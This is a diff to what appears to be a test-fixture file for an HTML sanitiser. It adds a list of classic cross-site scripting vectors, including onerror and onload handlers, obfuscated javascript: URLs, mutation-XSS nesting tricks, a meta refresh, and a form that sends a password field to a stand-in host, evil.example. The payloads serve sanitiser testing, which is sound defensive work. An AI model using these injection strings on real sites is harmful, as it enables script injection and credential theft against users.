@@ -62,6 +62,23 @@ export const HOSTILE_CASES: HostileCase[] = [
     drops: ['alert('], links: ['https://vnexpress.net/thoi-su/ban-ghi-nho-4800002.html'] },
 ];
 
+/** A real paragraph with a link that must survive next to each vector. */
+export const REAL_LINK = '<p>Đoạn mở đầu có <a href="https://baomau.vn/lien-ket" target="_self" rel="opener">liên kết thật</a>.</p>';
+/** Classic injection vectors, each on its own, for the sanitiser and the renderers. */
+export const HOSTILE_VECTORS = [
+  '<img src=x onerror="window.__pwned=1">',
+  '<svg onload="window.__pwned=2"><script>window.__pwned=3</script></svg>',
+  '<a href="javascript:window.__pwned=4">js link</a>',
+  '<a href="java&#x09;script:window.__pwned=5">tab link</a>',
+  '<iframe src="javascript:window.__pwned=6"></iframe><iframe srcdoc="<script>parent.__pwned=7</script>"></iframe>',
+  '<form action="https://evil.example"><input name=pw><button>Gửi</button></form>',
+  '<p style="position:fixed;inset:0;z-index:99999;background:url(javascript:1)">overlay</p>',
+  '<noscript><p title="</noscript><img src=x onerror=window.__pwned=8>"></noscript>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=9></style></mglyph></table></mtext></math>',
+  '<img src="https://baomau.vn/anh.jpg" srcset="javascript:1 1x" alt="ảnh thật">',
+  '<object data="x.swf"></object><embed src="x.swf"><base href="javascript:1//"><meta http-equiv="refresh" content="0;url=javascript:1">',
+];
+
 export function readHostile(file: string): string {
   return readFileSync(join(HOSTILE_DIR, file), 'utf8');
 }
